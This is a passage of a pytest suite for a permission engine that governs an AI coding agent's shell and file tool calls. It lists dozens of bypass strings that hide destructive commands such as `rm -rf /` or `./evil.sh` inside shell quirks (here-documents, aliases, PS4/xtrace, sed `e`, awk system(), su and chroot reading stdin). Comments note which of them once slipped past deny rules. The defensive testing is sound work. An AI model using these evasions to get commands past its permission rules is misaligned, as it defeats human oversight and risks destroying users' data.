    ("env-split-string-long", "env --split-string='rm -rf /'"),
    ("arith-command-after-if", "if (( '$(rm -rf /)' )); then :; fi"),
    ("arith-command-after-bang", "! (( '$(rm -rf /)' ))"),
    ("arith-command-in-group", "{ (( '$(rm -rf /)' )); }"),
    ("arith-command-after-while", "while (( '$(rm -rf /)' )); do :; done"),
    ("arith-command-function-body", "function f (( '$(rm -rf /)' )); f"),
    ("continued-dollar-paren", "echo $(\\\n( '$(rm -rf /)' ))"),
    ("continued-dollar", "echo $\\\n(( '$(rm -rf /)' ))"),
    ("continued-dollar-quote", "echo $\\\n'\\' x '; rm -rf /; #'"),
    ("continued-bang", "!\\\n rm -rf /"),
    ("continued-brace", "{\\\n rm -rf /; }"),
    ("continued-if", "i\\\nf rm -rf /; then :; fi"),
    ("continued-delimiter", "cat <<E >/dev/null\nE\\\n\nrm -rf /\nE"),
    ("case-in-quoted-substitution", 'echo "$(case x in x) rm -rf /;; esac)"'),
    ("case-in-here-document", "cat <<E\n$(case x in x) rm -rf /;; esac)\nE"),
    ("case-in-quoted-expansion", 'echo "${x:-$(case x in x) rm -rf /;; esac)}"'),
    ("case-in-arithmetic", "echo $(( '$(case x in x) rm -rf /;; esac)' ))"),
    ("here-document-across-substitution", "cat <<E $(\nrm -rf /\nE\n)\nE"),
    ("here-document-across-quoted-substitution", 'cat <<E "$(\nrm -rf /\nE\n)"\nE'),
    ("here-document-inside-substitution", "echo $(cat <<E)\nrm -rf /\nE"),
    ("backquote-escaped-quote-in-quotes", 'echo "`echo \\"\'\\"; rm -rf /; echo \\"\'\\"`"'),
    ("backquote-escaped-quote-in-here-document", "cat <<E\n`echo \\\"'\\\"; rm -rf /; echo \\\"'\\\"`\nE"),
    ("ansi-c-control-before-quote", "echo $'\\c'\nrm -rf /\n#'"),
    ("ansi-c-control-backslash", "echo $'\\c\\' x '; rm -rf /; #'"),
    ("dash-reads-no-ansi-c", "echo $'\\'\nrm -rf /\n#'"),
    ("dash-ansi-c-delimiter", "cat <<$'E' >/dev/null\n$E\nrm -rf /\nE"),
    ("dash-locale-delimiter", 'cat <<$"E" >/dev/null\n$E\nrm -rf /\nE'),
    ("time-posix-option", "time -p rm -rf /"),
    ("time-posix-option-dashes", "time -p -- rm -rf /"),
    ("process-substitution-script", ". <(echo 'rm -rf /')"),
    ("process-substitution-bash-script", "bash <(echo 'rm -rf /')"),
    ("bash-5.3-command-expansion", "echo ${ rm -rf /; }"),
    # a second review: aliases, hash -p, BASH_ALIASES, [[ =~ ]], declarations, wrappers, braces
    ("alias-eval-next-line", "shopt -s expand_aliases 2>/dev/null\nalias x=eval\nx 'rm -rf /'"),
    ("alias-empty-next-line", "alias x=\nx rm -rf /"),
    ("alias-wrapper-next-line", "alias x='nice '\nx rm -rf /"),
    ("hash-p-next-command", "hash -p /bin/rm ls; ls -rf /"),
    ("bash-aliases-next-line", "shopt -s expand_aliases\ndeclare BASH_ALIASES[ls]='rm -rf /'\nls"),
    ("regex-bar-hash-substitution", "[[ x =~ x|#$(rm -rf /) ]]"),
    ("export-ps4-set-x", "export PS4='$(rm -rf /)'; set -x; :"),
    ("declare-prompt-expansion", "declare x='$(rm -rf /)'; echo \"${x@P}\""),
    ("wrapper-setarch", "setarch x86_64 rm -rf /"),
    ("wrapper-prlimit", "prlimit rm -rf /"),
    ("wrapper-setpriv", "setpriv rm -rf /"),
    ("wrapper-choom", "choom -n 0 -- rm -rf /"),
    ("wrapper-ssh-agent", "ssh-agent rm -rf /"),
    ("wrapper-dbus-run-session", "dbus-run-session -- rm -rf /"),
    ("brace-empty-word", "{,rm} -rf /"),
    ("brace-range-step", "{r..r..1}m -rf /"),
    ("set-x-ps4-from-printf", "printf -v PS4 '%s' '$(rm -rf /)'; set -x; :"),
    ("set-x-ps4-from-read", "read -r PS4 <<< '$(rm -rf /)'; set -x; :"),
    ("tmux-command", "tmux new -d 'rm -rf /'"),
    ("screen-command", "screen -dm rm -rf /"),
    ("dangerous-option-value-man", "man -P 'rm -rf /' ls"),
    ("dangerous-option-value-scp", "scp -o ProxyCommand='rm -rf /' a:b c"),
    ("dangerous-option-value-tar", "tar --to-command='rm -rf /' -xf x.tar"),
    ("dangerous-option-value-rsync", "rsync -e 'rm -rf /' a b:c"),
    # a third review: `case` read as reserved words (an "esac" text elsewhere fooled a search)
    ("case-after-esac-argument", 'echo "$(echo esac; case x in x) rm -rf /;; esac)"'),
    ("case-after-quoted-esac-pattern", 'echo "$(case x in \'esac\'|x) rm -rf /;; esac)"'),
    ("case-after-esac-in-here-document", "cat <<EOF\n$(echo esac; case x in x) rm -rf /;; esac)\nEOF"),
    ("case-after-esac-in-quoted-expansion", 'echo "${y:-$(echo esac; case x in x) rm -rf /;; esac)}"'),
    ("case-after-esac-comment", 'echo "$(# esac\ncase x in x) rm -rf /;; esac)"'),
    ("case-after-time-in-dash", 'echo "$(time ! case x in x)"; rm -rf /; ": ;; esac)"'),
    ("case-nested-in-quoted-substitution", 'echo "$(case a in a) case x in x) rm -rf /;; esac;; esac)"'),
    # programs that start a shell reading stdin when given no command
    ("stdin-su", "echo 'rm -rf /' | su"),
    ("stdin-su-login", "echo 'rm -rf /' | su -"),
    ("stdin-su-shell-option", "echo 'rm -rf /' | su root -s /bin/sh"),
    ("stdin-runuser", "echo 'rm -rf /' | runuser"),
    ("stdin-sg", "echo 'rm -rf /' | sg root"),
    ("stdin-newgrp", "echo 'rm -rf /' | newgrp root"),
    ("stdin-newgrp-here-string", "newgrp root <<< 'rm -rf /'"),
    ("stdin-unshare", "echo 'rm -rf /' | unshare"),
    ("stdin-nsenter", "echo 'rm -rf /' | nsenter"),
    ("stdin-chroot", "echo 'rm -rf /' | chroot /"),
    ("stdin-chroot-userspec", "echo 'rm -rf /' | chroot --userspec root /"),
    ("stdin-fakeroot", "echo 'rm -rf /' | fakeroot"),
    ("stdin-script", "echo 'rm -rf /' | script -q /dev/null"),
    ("stdin-su-c-is-a-value", "echo 'rm -rf /' | su -wc"),  # c: -w's list
    ("stdin-su-c-in-a-group", "su -Gcdrom <<< 'rm -rf /'"),
    ("stdin-runuser-c-is-a-value", "echo 'rm -rf /' | runuser -wcx root"),
    ("stdin-script-c-is-a-file", "echo 'rm -rf /' | script -q -Tc /dev/null"),
    ("wrapper-jobs-x", "jobs -x rm -rf /"),
    ("wrapper-perf-stat", "perf stat -o /dev/null rm -rf /"),
    ("stdin-perf-stat-shell", "echo 'rm -rf /' | perf stat -o /dev/null sh"),
    ("wrapper-gdb-args", "gdb -q -batch -ex run --args rm -rf /"),
    ("gdb-shell-command", "gdb -q -batch -ex 'shell rm -rf /'"),
    ("gdb-bang-command", "gdb -q -batch -ex '!rm -rf /'"),
    ("gdb-eval-command", "gdb -q -batch -eval-command='shell rm -rf /'"),
    ("sed-e-command", "sed -n '1e rm -rf /' /etc/hostname"),
    ("sed-e-command-in-block", "sed -n '1{e rm -rf /\n}' /etc/hostname"),
    ("sed-e-command-expression", "sed -n -e p -e '1e rm -rf /' /etc/hostname"),
    ("sed-e-after-label", "sed -n ':x e rm -rf /' /etc/hostname"),  # a label ends at a blank
    ("sed-e-after-branch-label", "sed -n '$!bx e rm -rf /\n:x' /etc/hostname"),
    ("awk-system", "awk 'BEGIN { system(\"rm -rf /\") }'"),
    ("awk-print-pipe", "awk '{ print | \"rm -rf /\" }' /etc/hostname"),
    ("awk-getline-pipe", "gawk 'BEGIN { \"rm -rf /\" | getline x }'"),
    ("original-awk-system", "original-awk 'BEGIN { system(\"rm -rf /\") }'"),
    ("fc-editor-command", "set -o history\nhistory -s echo\nfc -e 'rm -rf /'"),
    # dash has no `time` keyword: /usr/bin/time runs the rest, with options bash never takes
    # (2026-12-05: a deny rule for rm allowed all of these in unrestricted mode)
    ("dash-time-program-verbose", "time -v rm -rf /"),
    ("dash-time-program-output", "time -o /dev/null rm -rf /"),
    ("dash-time-program-long-option", "time --verbose rm -rf /"),
    ("dash-time-program-repeated-p", "time -p -p rm -rf /"),
    ("dash-time-program-after-bang", "! time -v rm -rf /"),
    # after an assignment a reserved word is a word, in both shells: the program runs
    ("time-program-after-assignment", "x=1 time -v rm -rf /"),
]

# A second review ran these: one simple command that an allow rule of its first words
# allowed, running another program or writing a file. Each now asks (a dangerous argument).
ALLOWED_BUT_RUNS = [
    ("sed -n *", "sed -n -l 5 '1e touch M' f"),
    ("sed -n *", "sed -n --line-length 5 '1e touch M' f"),
    ("sed -n *", "sed -n --expr='1e touch M' p"),  # the file p reads as a harmless script
    ("sed -n *", "sed -n --fil=e.sed p"),
    ("sed -n *", "sed -n 1p f -e '1e touch M'"),
    ("sed *", "sed -ne p -e '1e touch M' f"),
    ("awk *", "awk -W interactive 'BEGIN{print}'"),
    ("awk *", "awk -Wexec p.awk"),
    ("man *", "man -P 'touch M' ls"),
    ("man *", "man --pager='touch M' ls"),
    ("less *", "less --lesskey-src=lk f"),
    ("git *", "git clone -q -u 'touch M;' . cl"),
    ("git clone *", "git clone -q --template=tpl . cl"),
    ("git init *", "git init -q --template=tpl"),
    ("git archive *", "git archive -o M HEAD"),
    ("zip *", "zip -q -T -TT 'touch M' z.zip f"),
    ("scp *", "scp -o 'ProxyCommand=touch M' a:b c"),
    ("scp *", "scp -S ./evil.sh a:b c"),
    ("wget *", "wget -q --use-askpass=./evil.sh http://127.0.0.1:9/x"),
    ("diff3 *", "diff3 --diff-program=./evil.sh f f f"),
    ("sdiff *", "sdiff --diff-program=./evil.sh f f"),
    ("pip *", "pip --python ./evil.sh list"),
    ("uniq *", "uniq f .envrc"),
    ("shuf *", "shuf -o M f"),
    ("xxd *", "xxd f M"),
    ("curl *", "curl -s -o M file:///etc/hostname"),
    ("pip list *", "pip list --log M"),
    ("compgen *", "compgen -W '$(touch M)' x"),
    ("flock *", "flock lk -c 'touch M'"),
    ("declare *", "declare -a 'a=($(touch M))'"),
    ("test *", "test -v 'a[$(touch M)]'"),
    ("jobs *", "jobs -x touch M"),
    ("perf *", "perf stat -o M true"),
    # a third review: options that write a file or run a program
    ("iconv *", "iconv -f utf8 -t ascii -o M f"),
    ("iconv *", "iconv --output=M f"),
    ("git bundle *", "git bundle create M HEAD"),
    ("git format-patch *", "git format-patch -o out -1"),
    ("git format-patch *", "git format-patch --output-directory=out -1"),
    ("git daemon *", "git daemon --access-hook=./evil.sh"),
    ("man *", "man -C ./man.conf ls"),
    ("tar *", "tar --index-file=M -cf x.tar f"),
    ("fd *", "fd -x touch M"),
    ("fd *", "fd --exec-batch touch"),
    ("fd *", "fd -X touch"),
    ("awk *", "awk -e 'BEGIN{}' -e 'BEGIN{system(\"touch M\")}'"),
    ("awk *", "awk --source='BEGIN{system(\"touch M\")}'"),
    ("gawk *", "gawk -o M 'BEGIN{}'"),
    ("gawk *", "gawk -pM 'BEGIN{}'"),
    ("gawk *", "gawk --dump-variables=M 'BEGIN{}'"),
    ("date *", "date -s 2020-01-01"),
    ("date *", "date --set=2020-01-01"),
    # a fourth review: GNU sed ends a label at a blank and reads the next command after it
    ("sed -n *", "sed -n ':x e touch M' f"),
    ("sed -n *", "sed -n ':x w M' f"),
    ("sed *", "sed -n -e '$!bx e touch M\n:x' f"),
    ("gawk *", "gawk --inc=e.awk 'BEGIN{}'"),  # an abbreviation of --include
    ("awk *", "awk --as x=1 'BEGIN{system(\"touch M\")}'"),  # --assign's value, then the script
    ("gawk *", "gawk 'BEGIN{f = \"sys\" \"tem\"; @f(\"touch M\")}'"),  # an indirect call
]


@pytest.mark.parametrize(("rule", "command"), ALLOWED_BUT_RUNS)
def test_an_allow_rule_does_not_allow_what_runs_another_program(rule, command):
    allow = [layer(USER, (ALLOW, f"execute_command({rule})"))]
    assert evaluate(allow, C, {"command": command}, root=ROOT, mode="ask").decision == ASK
    # the rule still allows a plain use: `sed -n x`, `git clone x`, `uniq x`...
    assert evaluate(allow, C, {"command": rule[:-1] + "x"}, root=ROOT, mode="ask").decision == ALLOW


@pytest.mark.parametrize(("command", "expected"), [
    ("set -o history\necho -rf /\nfc -s echo=rm", ASK),
    ("set -o history\nhistory -s 'rm -rf /'\nfc -s", DENY),  # the line given to history -s
    ("set -o history\nhistory -s 'rm -rf /'\nfc -1", DENY),  # the editor, then the lines
    ("set -o history\nhistory -s \"$X\"\nfc -s", ASK),
])
def test_what_bash_history_runs_again_is_opaque(command, expected):
    """`fc` runs lines of the history, built at run time (`history -s`, `fc -s old=new`): a
    deny rule might match (ask), an allow rule of either never allows it alone."""
    assert _who(DENY_RM, C, command, mode="unrestricted").decision == expected
    for argv in (["fc", "-s"], ["fc", "-s", "echo=rm"], ["history", "-s", "x"], ["history", "-w", "f"]):
        allow = [layer(USER, (ALLOW, f"execute_command({argv[0]} *)"))]
        assert _who(allow, C, " ".join(argv)).decision == ASK
    assert not analyze_command("fc -l -5").deeply_opaque  # a listing runs nothing


_BUILT = "printf -v x '%s[%s' a '$(rm -rf /)]'; "  # x is `a[$(rm -rf /)]`, built at run time


@pytest.mark.parametrize("command", [
    # bash evaluates a variable's value as arithmetic (recursively) or as a name
    _BUILT + "let x", _BUILT + "((x))", _BUILT + "echo $((x))", _BUILT + "[[ x -eq 1 ]]",
    _BUILT + 'test -v "$x"', _BUILT + "echo ${!x}", _BUILT + "declare -i y=x",
    _BUILT + "echo ${a[x]}",
    "read -r x < f; let x", "mapfile -t a < f; let a", "x=$(cat f); ((x))",
    "y=$(cat f); declare -n r=$y; echo $r",
    # a substring's offset and length are arithmetic: `${PWD:x}`, not `${x:-d}`
    "read -r x < f; echo ${PWD:x}", 'read -r x < f; echo "${HOME:0:x}"', "read -r x < f; echo ${@:x}",
    "read -r x < f; : ${PWD:x}", "read -r x < f; echo ${PWD:x:1}", "mapfile -t a < f; echo ${PWD:a}",
    "read -r x < f; a=(1 2); echo ${a[@]:x}", "read -r x < f; echo ${*: x}",
    # `${x:=…}`, `${x=…}` assign; `command -p`, `builtin --` run the read
    ": ${x:=$(cat f)}; let x", ": ${x=$(cat f)}; ((x))", "echo ${x:=$(cat f)} >/dev/null; echo $((x))",
    ': "${x:=`cat f`}"; let x', "command -p read -r x < f; let x", "command -- read -r x < f; let x",
    "builtin -- read -r x < f; let x", "command -p -- printf -v x %s \"$y\"; let x",
    "n=x; : ${!n:=$(cat f)}; let x",
    # PS4, built at run time, is expanded by xtrace (set -x, set -o xtrace, shopt -o)
    "printf -v PS4 '%s(%s)' '$' 'rm -rf /'; shopt -os xtrace; :",
    "printf -v PS4 '%s(%s)' '$' 'rm -rf /'; set -o xtrace; :",
    "printf -v PS4 '%s(%s)' '$' 'rm -rf /'; shopt -o -s xtrace; :",
    "printf -v PS4 '%s(%s)' '$' 'rm -rf /'; builtin set -x; :",
    # a variable whose name is built at run time: BASH_CMDS[ls] makes `ls` run rm
    'x=BASH_; printf -v "${x}CMDS[ls]" %s /bin/rm; ls -rf /',
    'x=BASH_; declare "${x}CMDS[ls]=/bin/rm"; ls -rf /',
    'x=BASH_; read -r "${x}CMDS[ls]" <<< /bin/rm; ls -rf /',
    # a loop variable takes the words of a substitution; `command`/`builtin` without options
    "for x in $(cat f); do let x; done", "select x in $(cat f); do let x; done",
    "command read -r x < f; let x", "builtin read -r x < f; let x",
    # a prompt expansion anywhere, a case subject too
    'read -r x < f; case "${x@P}" in *) ;; esac',
    # a name known only at run time: any variable (a nameref, PS4, BASH_CMDS...)
    'printf -v "$n" %s x', 'printf -v"$n" %s x', 'printf "$o" x y', 'declare "$n=1"',
    'declare x="$(cat f)"; let x',
    "declare x[$i]=1; let x",  # which element gets the value is known at run time
])
def test_a_value_built_at_run_time_and_evaluated_is_opaque(command):
    """What bash evaluates (arithmetic, `${!x}`, a nameref, xtrace's PS4) is known only at
    run time when the line writes the variable with printf -v, read, mapfile, `$(...)`...,
    and a variable named at run time may be any (BASH_CMDS): a deny rule might match."""
    assert _who(DENY_RM, C, command, mode="unrestricted").decision in (ASK, DENY)
    assert analyze_command(command).deeply_opaque


@pytest.mark.parametrize("command", [
    "printf -v x '%s' 1; echo $x", "echo $((1 + 2))",
    "i=1; echo $((i + 1))", "read -r x < f; echo \"$x\"", "let i=1+2", "declare -i n=3",
    "printf '%s' \"$x\"",
    "read -r x < f; echo ${x:-d} ${x:=e} ${x:+y} ${x:?z}",  # no offsets
    ": ${x:=1}; let x",  # a value known
    "for x in a b; do let x; done", "time echo $(cat f); let x", "! echo $(cat f); let x",
    "printf '%s' a; let x",  # no -v: nothing assigned
    'printf -vx "$f" y',  # a known name (the format is no name)
    "x=1 for y in $(cat f); let y",  # `for` after an assignment: a word (no loop runs)
])
def test_a_value_built_at_run_time_but_not_evaluated_is_not_opaque_beyond_its_words(command):
    assert not analyze_command(command).deeply_opaque


@pytest.mark.parametrize("command", ["gdb -q", "gdb -batch -ex 'shell touch M'", "gdb --args touch M"])
def test_an_allow_rule_for_gdb_always_asks(command):
    """gdb runs the program it debugs and debugger commands (`shell`, `run`), also from a
    .gdbinit the rule cannot see: an allow rule never allows it alone."""
    allow = [layer(USER, (ALLOW, "execute_command(gdb *)"))]
    assert evaluate(allow, C, {"command": command}, root=ROOT, mode="ask").decision == ASK


@pytest.mark.parametrize("command", ["sed 's/x/rm -rf \\//e' f", "sed -n 'e' f", "sudo sed '1e' f"])
def test_a_sed_running_its_pattern_space_is_opaque(command):
    """`e` alone and the `e` flag of `s` run the pattern space: text known at run time."""
    assert analyze_command(command).deeply_opaque
    assert _who(DENY_RM, C, command, mode="unrestricted").decision == ASK


def test_an_allow_rule_for_hostname_asks_before_it_sets_the_name():
    allow = [layer(USER, (ALLOW, "execute_command(hostname *)"))]
    for command in ("hostname evil", "hostname -F f", "hostname -- evil"):
        assert _who(allow, C, command).decision == ASK
    assert _who(allow, C, "hostname -f").decision == ALLOW


@pytest.mark.parametrize("command", [
    "awk 'BEGIN { c = \"rm\"; system(c \" -rf /\") }'",  # built from parts
    # options that keep the script from being known (a review: gawk ran the system())
    "gawk -i inplace '{ system(\"rm -rf /\") }' /etc/hostname", "gawk -p '{ system(\"rm -rf /\") }'",
    "mawk -W interactive 'BEGIN { system(\"rm -rf /\") }'", "gawk -k 'BEGIN { system(\"rm -rf /\") }'",
])
def test_an_awk_command_not_known_from_the_line_asks_in_every_mode(command):
    """What awk runs, when it is not in the line as a literal, is opaque: a deny rule might
    match it."""
    d = evaluate(DENY_RM, C, {"command": command}, root=ROOT, mode="unrestricted")
    assert d.decision == ASK and "might match" in d.reason


@pytest.mark.parametrize("command", [c for _, c in SHELLS_RUN_IT], ids=[i for i, _ in SHELLS_RUN_IT])
def test_what_dash_or_bash_runs_is_judged(command):
    """A deny rule holds in every mode; an allow rule of the command's first word does not
    allow it (but for a wrapper such as sg, or tmux, which run a command by design, like sudo)."""
    assert evaluate(DENY_RM, C, {"command": command}, root=ROOT, mode="unrestricted").decision == DENY
    first = analyze_command(command).simple[0][0]
    if first.isidentifier() and first not in rules.WRAPPERS | rules._RESERVED | {"tmux"}:
        allow = [layer(USER, (ALLOW, f"execute_command({first} *)"))]
        assert evaluate(allow, C, {"command": command}, root=ROOT, mode="ask").decision == ASK


def test_the_table_is_big_and_ids_are_unique():
    ids = [case[0] for case in BYPASSES]
    assert len(ids) == len(set(ids))
    assert len(BYPASSES) >= 60
    assert sum(1 for case in BYPASSES if case[3] == C) >= 60


# -- who decided ------------------------------------------------------------------------


def _who(layers, tool, arg, mode="ask", **kw):
    return evaluate(layers, tool, {rules.MAIN_ARG[tool]: arg}, root=ROOT, mode=mode, **kw)


def test_many_dynamic_words_against_a_long_deny_pattern_are_judged_at_once():
    """Lining dynamic words up with a pattern tries each (pattern word, command word) pair
    once (a memo): without it, 30 `$A` words against a 12-word pattern that fails at the end
    are ~2e9 ways, a question that never comes (the call hangs)."""
    deny = [layer(USER, (DENY, "execute_command(make a b c d e f g h i j k)"))]
    cmd = "make " + "$A " * 30 + "q"  # q is no word of the pattern: it can never match
    d = _who(deny, C, cmd, mode="unrestricted")
    assert (d.decision, d.who) == (ALLOW, "mode unrestricted")
    d = _who(deny, C, "make " + "$A " * 30 + "k", mode="unrestricted")  # it may: $A = a .. j
    assert d.decision == ASK


def test_who_names_rule_and_layer():
    d = _who(STD, C, "git status; rm -rf /")
    assert d.who == f'rule "execute_command(rm *)" in {USER}'
    assert d.rule is not None and d.rule.text == "execute_command(rm *)"
    assert d.reason == "a deny rule matches"
    d = _who(STD, "read_file", ".env", mode="read-only")  # the rule, not the mode, denies it
    assert (d.who, d.reason) == (f'rule "read_file(.env)" in {USER}', "a deny rule matches")
    assert _who(STD, C, "git status").who == f'rule "execute_command(git status)" in {USER}'
    assert _who(NONE, "read_file", "a").who == "built-in default"
    assert _who(NONE, "write_file", "a", mode="read-only").who == "mode read-only"
    assert _who(NONE, "write_file", "a", mode="accept-edits").who == "mode accept-edits"
    assert _who(NONE, C, "ls", mode="unrestricted").who == "mode unrestricted"


def test_who_names_the_command_shape():
    d = _who(STD, C, "git status | cat")
    assert d.decision == ASK
    assert d.who == "command shape: pipe"
    assert "execute_command(git status)" in d.reason
    d = _who(STD, C, "git status; echo x > y")
    assert d.who.startswith("command shape: ") and "list" in d.who and "redirection" in d.who


def test_who_names_the_dangerous_argument():
    d = _who(STD, C, "find . -exec chmod 777 {} +")
    assert d.decision == ASK
    assert d.who == 'dangerous argument "-exec" (find)'
    assert "execute_command(find *)" in d.reason
    tar = [layer(USER, (ALLOW, "execute_command(tar *)"))]
    assert _who(tar, C, "tar tf a.tar").decision == ALLOW
    d = _who(tar, C, "tar tIf ./p.sh a.tar")  # (GNU tar runs ./p.sh to decompress)
    assert (d.decision, d.who) == (ASK, 'dangerous argument "tIf" (tar)')
    # a word both dangerous and undoing the rule's option: the danger is named
    nx = [layer(USER, (ALLOW, "execute_command(git diff --no-ext-diff *)"))]
    d = _who(nx, C, "git diff --no-ext-diff --ext-diff")
    assert (d.decision, d.who) == (ASK, 'dangerous argument "--ext-diff" (git)')


def test_a_shape_question_names_the_allow_rule_it_is_about():
    d = _who(STD, C, "git status | cat")
    assert (d.who, d.rule.text) == ("command shape: pipe", "execute_command(git status)")


def test_an_ask_rule_keeps_its_name_and_gets_the_reason_of_the_protection():
    ask = [layer(USER, (ASK, "write_file(**)"))]
    d = _who(ask, "write_file", ".git/hooks/pre-commit")
    assert (d.decision, d.who) == (ASK, f'rule "write_file(**)" in {USER}')
    assert d.always_asks == "git runs these hooks on commit, merge, checkout and push"


def test_who_names_the_script():
    sed = [layer(USER, (ALLOW, "execute_command(sed *)"))]
    d = _who(sed, C, "sed 'w out' a.txt")
    assert (d.decision, d.who) == (ASK, "sed script: writes a file: the w command")
    assert d.reason == f'rule "execute_command(sed *)" in {USER} would allow it, but its sed script writes a file: the w command'


def test_who_names_the_protection():
    d = _who(ALLOW_ALL_WRITES, "write_file", ".git/hooks/pre-commit", mode="unrestricted")
    assert d.who == 'built-in protection "write_file(**/.git/hooks/**)"'
    assert d.always_asks == "git runs these hooks on commit, merge, checkout and push"
    d = _who(ALLOW_ALL_WRITES, "edit_file", ".git/info/attributes", mode="unrestricted")
    assert d.who == 'built-in protection "edit_file(**/.git/**)"'
    assert d.rule is not None and d.rule.sticky
    d = _who(NONE, "write_file", ".git/hooks/pre-commit")  # ask anyway: protection named
    assert d.who.startswith("built-in protection")


def test_first_strictest_rule_in_layer_order_is_named():
    layers = [
        layer(USER, (DENY, "execute_command(rm *)")),
        layer(PROJECT, (DENY, "execute_command(rm -rf *)")),
        layer(CLI, (ALLOW, "execute_command(rm -rf build)")),
    ]
    d = _who(layers, C, "rm -rf build")
    assert d.decision == DENY and USER in d.who


def test_layer_order_does_not_matter_for_the_decision():
    a = layer(USER, (DENY, "execute_command(rm *)"))
    b = layer(PROJECT, (ALLOW, "execute_command(*)"))
    c = layer(CLI, (ASK, "execute_command(rm -rf build)"))
    for order in ([a, b, c], [c, b, a], [b, a, c], [b, c, a]):
        assert _who(order, C, "rm -rf build").decision == DENY
    assert _who([b, c], C, "rm -rf build").decision == ASK  # ask beats allow
    assert _who([b], C, "rm -rf build").decision == ALLOW


def test_explicit_ask_holds_in_every_mode_but_read_only_denies():
    layers = [layer(USER, (ASK, "execute_command(git push *)"), (ASK, "edit_file(src/**)"))]
    for mode in ("ask", "accept-edits", "unrestricted"):
        assert _who(layers, C, "git push origin", mode=mode).decision == ASK
        assert _who(layers, "edit_file", "src/x.py", mode=mode).decision == ASK
    assert _who(layers, C, "git push origin", mode="read-only").decision == DENY


def test_deny_holds_in_every_mode():
    layers = [layer(USER, (DENY, "execute_command(rm *)"), (DENY, "write_file(secrets/**)"))]
    for mode in MODES:
        assert _who(layers, C, "rm -rf /", mode=mode).decision == DENY
        assert _who(layers, "write_file", "secrets/k", mode=mode).decision == DENY
        assert _who(layers, "write_file", "SECRETS/k", mode=mode).decision == DENY


def test_may_match_lines_up_dynamic_words():
    push = [layer(USER, (ASK, "execute_command(git push *)"))]
    for cmd, expected in [
        ("git $SUB origin", ASK),  # $SUB may be "push"
        ("npm $X", ALLOW),  # npm can never be git push
        ("echo $(git push)", ASK),  # an explicit ask rule matches inside
        ("tool --x=$Y", ALLOW),
    ]:
        assert _who(push, C, cmd, mode="unrestricted").decision == expected, cmd
    exact = [layer(USER, (DENY, "execute_command(make deploy)"))]
    assert _who(exact, C, "make $T", mode="unrestricted").decision == ASK
    assert _who(exact, C, "make ~", mode="unrestricted").decision == ASK  # $HOME may be "deploy"
    assert _who(exact, C, "make [d]eploy", mode="unrestricted").decision == ASK  # a file "deploy"
    assert _who(exact, C, "make $T build", mode="unrestricted").decision == ALLOW  # never exact
    assert _who(exact, C, "make build $T", mode="unrestricted").decision == ALLOW
    assert _who(exact, C, "make deploy $T", mode="unrestricted").decision == ASK
    assert _who(exact, C, "make $T deploy", mode="unrestricted").decision == ASK  # $T may be empty
    assert _who(exact, C, "make $T deploy x", mode="unrestricted").decision == ALLOW  # x is a word more
    assert _who(exact, C, "/usr/bin/make $T", mode="unrestricted").decision == ASK  # still make
    assert _who(exact, C, "echo hi; make $T", mode="unrestricted").decision == ASK  # any part
    longer = [layer(USER, (DENY, "execute_command(make deploy prod)"))]
    assert _who(longer, C, "make $T prod", mode="unrestricted").decision == ASK
    assert _who(longer, C, "make $T deploy", mode="unrestricted").decision == ALLOW  # no prod
    star = [layer(USER, (DENY, "execute_command(* --force)"))]
    assert _who(star, C, "git push $F", mode="unrestricted").decision == ASK
    assert _who(star, C, "ls $F -l", mode="unrestricted").decision == ALLOW
    kill = [layer(USER, (DENY, "execute_command(kill -9 1 *)"))]  # too many to expand: {1..99} may be it
    assert _who(kill, C, "kill -9 {1..99}", mode="unrestricted").decision == ASK
    d = _who(star, C, "git push --force 'x", mode="unrestricted")  # unparsable: it may match
    assert (d.decision, d.who) == (ASK, "command shape: unparsable")
    allow_ls = [layer(USER, (ALLOW, "execute_command(ls *)"))]  # only deny and ask rules count
    assert _who(allow_ls, C, "ls $HOME", mode="unrestricted").decision == ALLOW


def test_explicit_deny_beats_the_protection():
    layers = [layer(USER, (DENY, "write_file(.git/**)"))]
    d = _who(layers, "write_file", ".git/hooks/pre-commit", mode="unrestricted")
    assert d.decision == DENY and "rule" in d.who


def test_bare_tool_rules():
    deny_cmd = [layer(USER, (DENY, "execute_command"))]
    for cmd in ("ls", "git status", "ls | wc", ""):
        assert _who(deny_cmd, C, cmd, mode="unrestricted").decision == DENY
    allow_cmd = [layer(USER, (ALLOW, "execute_command"))]
    assert _who(allow_cmd, C, "ls").decision == ALLOW
    d = _who(allow_cmd, C, "ls | wc")
    assert d.decision == ASK and d.who == "command shape: pipe"
    deny_write = [layer(USER, (DENY, "write_file"))]
    assert _who(deny_write, "write_file", "x", mode="unrestricted").decision == DENY
    assert _who(deny_write, "edit_file", "x", mode="unrestricted").decision == ALLOW
    allow_read = [layer(USER, (ALLOW, "read_file"))]
    assert _who(allow_read, "read_file", "/etc/passwd").decision == ALLOW


def test_the_shape_is_named_only_when_an_allow_rule_names_a_part():
    allow_cmd = [layer(USER, (ALLOW, "execute_command"))]
    assert _who(allow_cmd, C, ">out").who == "command shape: redirection"
    assert _who(allow_cmd, C, "").who == "built-in default"  # nothing to name a part of
    # only exactly: "GIT" is no part "git status" names, nor another exact session string
    assert _who(STD, C, "GIT status | wc -l").who == "built-in default"
    session = [(SESSION, [exact_rule(C, {"command": "git status | head -5"})])]
    assert _who(session, C, "git status | head -6").who == "built-in default"


def test_allow_rules_match_the_command_word_exactly():
    d = _who(STD, C, "GIT status")  # (deny and ask rules fold it: the uppercase-rm case)
    assert (d.decision, d.who) == (ASK, "built-in default")


def test_a_rule_matches_only_calls_of_its_tool():
    r = parse_rule("read_file(.env)", DENY)
    assert rule_matches(r, "read_file", {"path": ".env"})
    assert not rule_matches(r, "write_file", {"path": ".env"})
    assert not rule_matches(parse_rule("execute_command", DENY), "read_file", {"path": "x"})


def test_rule_matches_answers_a_bool_on_every_path():
    """A public predicate: True or False, never None (a caller may compare or store it)."""
    allow = parse_rule("execute_command(git status)", ALLOW)
    deny = parse_rule("execute_command(rm *)", DENY)
    for rule, command, expected in [
        (allow, "git status", True),
        (allow, "git status | head", False),  # not one simple command
        (allow, "git log", False),
        (deny, "ls -l", False),  # strict, no candidate matches
        (deny, "ls; rm x", True),
    ]:
        assert rule_matches(rule, C, {"command": command}) is expected, command


def test_a_path_is_never_judged_as_a_command():
    d = _who(STD, "write_file", "docs/sed -i")  # (a file name that reads like sed -i)
    assert (d.decision, d.who) == (ALLOW, f'rule "write_file(docs/**)" in {USER}')


def test_star_rule_equals_bare_rule():
    star = [layer(USER, (ALLOW, "execute_command(*)"))]
    bare = [layer(USER, (ALLOW, "execute_command"))]
    for cmd in ("ls", "ls -la", "ls | wc", "a; b", "x=1 ls"):
